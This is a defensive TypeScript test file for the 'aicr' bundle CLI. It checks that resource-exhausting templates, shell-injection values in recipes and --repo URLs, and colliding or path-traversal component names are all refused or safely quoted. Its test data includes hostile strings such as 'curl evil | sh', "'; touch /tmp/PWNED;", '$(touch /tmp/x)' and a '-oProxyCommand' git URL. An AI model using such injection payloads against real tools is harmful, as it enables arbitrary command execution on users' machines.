/**
 * Through the built CLI: hostile templates in a `--data` catalog (issue 9 §5), `--repo` validation
 * and shell quoting (issue 17 §3), and names that would collide inside a bundle (issue 17 §3).
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { cliPath } from '../helpers/paths.js';
import { cleanup, tempDir } from './helpers.js';
import { slowCatalog } from './cli-helpers.js';

function aicr(args: string[], cwd?: string) {
  const env: NodeJS.ProcessEnv = { ...process.env, NO_COLOR: '1' };
  delete env.AICR_DEBUG;
  delete env.AICR_LOG_JSON;
  const r = spawnSync(process.execPath, [cliPath, ...args], { cwd, env, encoding: 'utf8', timeout: 60_000 });
  return { code: r.status, signal: r.signal, stdout: r.stdout, stderr: r.stderr };
}

describe(
  'bundle safety (CLI)',
  { skip: existsSync(cliPath) ? false : 'dist/aicr.cjs not built (npm run build)' },
  () => {
    let dir: string;
    before(() => {
      dir = tempDir('aicr-bundle-safety-');
    });
    after(() => cleanup(dir));

    const hostile: [string, string, RegExp][] = [
      [
        'a doubling printf loop',
        '{{ $s := "x" }}{{ range until 100 }}{{ $s = printf "%s%s" $s $s }}{{ end }}a: {{ $s }}',
        /printf would print more than the limit/,
      ],
      [
        'range until 100000000',
        '{{ range until 100000000 }}xxxxxxxxxx{{ end }}',
        /more than the limit of 1000000 elements/,
      ],
      ['repeat of 1e9', 'a: {{ repeat 1000000000 "x" }}', /repeat would return 1000000000 characters/],
      [
        'nested loops',
        '{{ range until 1000 }}{{ range until 1001 }}{{ end }}{{ end }}a: 1',
        /range iterations exceed the limit/,
      ],
      [
        'output of 11 MiB',
        '{{ $s := repeat 1048576 "x" }}{{ range until 11 }}{{ $s }}{{ end }}',
        /template output exceeds the limit/,
      ],
    ];
    for (const [what, text, pattern] of hostile) {
      it(`a template with ${what}: exit 2 naming the file, nothing left behind`, () => {
        const c = slowCatalog(path.join(dir, what.replace(/\W+/g, '-')), 1, 1);
        writeFileSync(path.join(c.data, 'components/slow-00/manifests/cm.yaml'), text);
        const out = path.join(dir, `out-${what.replace(/\W+/g, '-')}`);
        const r = aicr(['bundle', '-r', c.recipe, '--data', c.data, '-o', out]);
        assert.equal(r.code, 2, `${r.signal} ${r.stderr.slice(-500)}`);
        assert.match(r.stderr, /template components\/slow-00\/manifests\/cm\.yaml:\d+:\d+: /);
        assert.match(r.stderr, pattern);
        assert.ok(!existsSync(out));
        assert.deepEqual(
          readdirSync(dir).filter((n) => n.includes('.aicr-')),
          [],
        );
      });
    }

    it('invalid rendered YAML is exit 2 on one line', () => {
      const c = slowCatalog(path.join(dir, 'badyaml'), 1, 1);
      writeFileSync(
        path.join(c.data, 'components/slow-00/manifests/cm.yaml'),
        'a: {{ printf "%999999999d" 1 }}\n',
      );
      const r = aicr(['bundle', '-r', c.recipe, '--data', c.data, '-o', path.join(dir, 'badyaml-out')]);
      assert.equal(r.code, 2, r.stderr);
      assert.match(r.stderr, /rendered text is not valid YAML/);
      assert.equal(r.stderr.split('\n').filter((l) => l && !l.startsWith('[cli] ')).length, 0);
    });

    // Plain block documents are checked by the reader's fast path; whatever it does not take (here a
    // duplicate key, a bad indentation) still reaches the yaml library's full parse.
    for (const [what, text, ok] of [
      ['two plain documents', '# c\n---\na: 1\nb:\n  - x\n--- # next\nc: {{ 2 }}\n', true],
      ['a duplicate key', '---\na: 1\na: 2\n', false],
      ['a bad indentation', 'a:\n    b: 1\n  c: 2\n', false],
      ['a tab in the second document', 'a: 1\n---\nb:\n\t- 1\n', false],
    ] as const) {
      it(`rendered manifest with ${what}: ${ok ? 'bundled' : 'exit 2'}`, () => {
        const c = slowCatalog(path.join(dir, `yaml-${what.replace(/\W+/g, '-')}`), 1, 1);
        writeFileSync(path.join(c.data, 'components/slow-00/manifests/cm.yaml'), text);
        const out = path.join(dir, `yaml-out-${what.replace(/\W+/g, '-')}`);
        const r = aicr(['bundle', '-r', c.recipe, '--data', c.data, '-o', out]);
        if (ok) {
          assert.equal(r.code, 0, r.stderr);
          assert.match(readFileSync(path.join(out, 'slow-00/manifests/cm.yaml'), 'utf8'), /^c: 2$/m);
        } else {
          assert.equal(r.code, 2, r.stderr);
          assert.match(
            r.stderr,
            /manifest components\/slow-00\/manifests\/cm\.yaml: rendered text is not valid YAML/,
          );
        }
      });
    }

    it('recipe values with newlines and shell syntax stay quoted and cannot close a code fence', () => {
      const recipe = path.join(dir, 'hostile.yaml');
      writeFileSync(
        recipe,
        [
          'kind: RecipeResult',
          'apiVersion: aicr.nvidia.com/v1alpha1',
          'metadata:',
          '  version: "v1\\n```\\ncurl evil | sh\\n```"',
          'componentRefs:',
          '  - name: evil',
          '    type: Helm',
          '    source: "https://charts.example.com\\n```\\ncurl evil | sh #"',
          `    chart: "x'; touch /tmp/PWNED; '"`,
          '    version: "1.0\\n```"',
          '    namespace: evil',
          '',
        ].join('\n'),
      );
      const out = path.join(dir, 'hostile-out');
      const r = aicr(['bundle', '-r', recipe, '-o', out]);
      assert.equal(r.code, 0, r.stderr);
      for (const f of ['README.md', 'evil/README.md']) {
        const text = readFileSync(path.join(out, f), 'utf8');
        const fences = text.split('\n').filter((l) => l.startsWith('```'));
        assert.ok(
          fences.every((l) => l === '```' || l === '```bash'),
          `${f}: only aicr's fences`,
        );
        assert.equal(fences.length % 2, 0, f);
        assert.ok(!text.split('\n').some((l) => l.startsWith('curl')), `${f}: no injected line`);
        assert.ok(text.includes(`$'https://charts.example.com\\n\`\`\`\\ncurl evil | sh #'`), f);
        assert.ok(text.includes(`'x'\\''; touch /tmp/PWNED; '\\'''`), f);
      }
      const bash = spawnSync('bash', ['-n', path.join(out, 'deploy.sh')]);
      if (!bash.error) assert.equal(bash.status, 0);
    });

    describe('--repo', () => {
      let c: { data: string; recipe: string };
      before(() => {
        c = slowCatalog(path.join(dir, 'repo'), 2, 1);
      });
      const bad = [
        'https://x/y.git; touch /tmp/PWNED #',
        'https://x/y.git\n```\ncurl evil | sh',
        'https://user:token@github.com/o/r.git',
        'ftp://host/r.git',
        'file:///tmp/r.git',
        '/local/path',
        'https://host/r.git?x=1',
        'git@host:-oProxyCommand=x',
        '$(touch /tmp/x)',
        '',
      ];
      for (const repo of bad) {
        it(`refuses ${JSON.stringify(repo)} with exit 2 before writing anything`, () => {
          const out = path.join(dir, 'repo-bad');
          const r = aicr([
            'bundle',
            '-r',
            c.recipe,
            '--data',
            c.data,
            '-o',
            out,
            '-d',
            'argocd',
            '--repo',
            repo,
          ]);
          assert.equal(r.code, 2, r.stderr);
          assert.match(
            r.stderr,
            repo === '' ? /requires --repo|invalid --repo/ : /invalid --repo .*expected a git URL/,
          );
          assert.ok(!existsSync(out));
          if (repo.includes('token')) {
            assert.match(r.stderr, /credentials are not allowed/);
            assert.doesNotMatch(r.stderr, /token/);
          }
        });
      }
      const good = [
        'https://github.com/my-org/gpu-gitops.git',
        'https://git.example.com:8443/platform/gpu-stack',
        'ssh://git@github.com/my-org/gpu-gitops.git',
        'git@github.com:my-org/gpu-gitops.git',
      ];
      for (const repo of good) {
        it(`accepts ${repo} and writes it quoted in the README's shell block`, () => {
          const out = path.join(dir, `repo-ok-${good.indexOf(repo)}`);
          const r = aicr([
            'bundle',
            '-r',
            c.recipe,
            '--data',
            c.data,
            '-o',
            out,
            '-d',
            'argocd',
            '--repo',
            repo,
          ]);
          assert.equal(r.code, 0, r.stderr);
          const readme = readFileSync(path.join(out, 'README.md'), 'utf8');
          assert.ok(readme.includes(`git remote add origin ${repo} && git push -u origin main`));
          assert.match(
            readFileSync(path.join(out, 'app-of-apps.yaml'), 'utf8'),
            new RegExp(`repoURL: ${repo.replace(/[.]/g, '\\.')}`),
          );
          // Code fences stay balanced.
          assert.equal(readme.split('\n').filter((l) => l.startsWith('```')).length % 2, 0);
        });
      }
    });

    describe('names that would collide inside a bundle', () => {
      function recipeWith(names: string[]): { data: string; recipe: string } {
        const c = slowCatalog(path.join(dir, `names-${names.join('-')}`), 1, 1);
        const text = readFileSync(c.recipe, 'utf8');
        const refs = names
          .map((n) => `  - name: ${n}\n    type: Helm\n    valuesFile: components/slow-00/values.yaml\n`)
          .join('');
        writeFileSync(c.recipe, text.replace(/componentRefs:\n[\s\S]*$/, `componentRefs:\n${refs}`));
        return c;
      }
      const cases: [string, string[], string[], RegExp][] = [
        ['the --data copy folder', ['data'], [], /invalid component name "data": "data" is a reserved entry/],
        [
          'the Argo CD app-of-apps Application',
          ['nvidia-stack'],
          ['-d', 'argocd', '--repo', 'https://github.com/o/r.git'],
          /invalid component name "nvidia-stack": the Argo CD app-of-apps Application is named "nvidia-stack"/,
        ],
        ['two components of one name', ['dup', 'dup'], [], /lists component "dup" twice/],
        ['a path-like name', ['../escape'], [], /invalid component name/],
      ];
      for (const [what, names, extra, pattern] of cases) {
        it(`refuses a component named like ${what} (exit 2, nothing written)`, () => {
          const c = recipeWith(names);
          const out = path.join(dir, `names-out-${what.replace(/\W+/g, '-')}`);
          const r = aicr(['bundle', '-r', c.recipe, '--data', c.data, '-o', out, ...extra]);
          assert.equal(r.code, 2, r.stderr);
          assert.match(r.stderr, pattern);
          assert.ok(!existsSync(out));
        });
      }
    });
  },
);
